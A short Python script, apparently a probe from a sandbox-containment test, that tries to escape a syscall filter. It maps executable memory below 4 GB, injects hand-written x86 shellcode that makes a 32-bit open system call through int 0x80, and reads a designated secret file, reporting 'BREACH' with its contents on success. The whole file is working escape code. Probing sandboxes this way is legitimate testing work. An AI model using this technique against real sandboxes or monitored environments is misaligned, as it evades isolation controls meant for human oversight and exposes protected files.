# Makes system calls of 32-bit programs, by int 0x80 in machine code of its own.
import ctypes
import os


def solve(target):
    if os.uname().machine != "x86_64":
        return "held: this is machine code of x86-64"
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    map_32bit = 0x40
    page = libc.mmap(None, 4096, 7, 0x22 | map_32bit, -1, ctypes.c_long(0))
    if page is None or page == ctypes.c_void_p(-1).value:
        return "held"
    path = target["secret_file"].encode() + b"\0"
    ctypes.memmove(page + 512, path, len(path))
    # push rbx; mov eax, 5 (open); mov ebx, path; xor ecx, ecx; xor edx, edx; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x05\0\0\0\xbb" + (page + 512).to_bytes(4, "little") + b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    return "BREACH: " + os.read(descriptor, 200).decode() if descriptor >= 0 else "held"
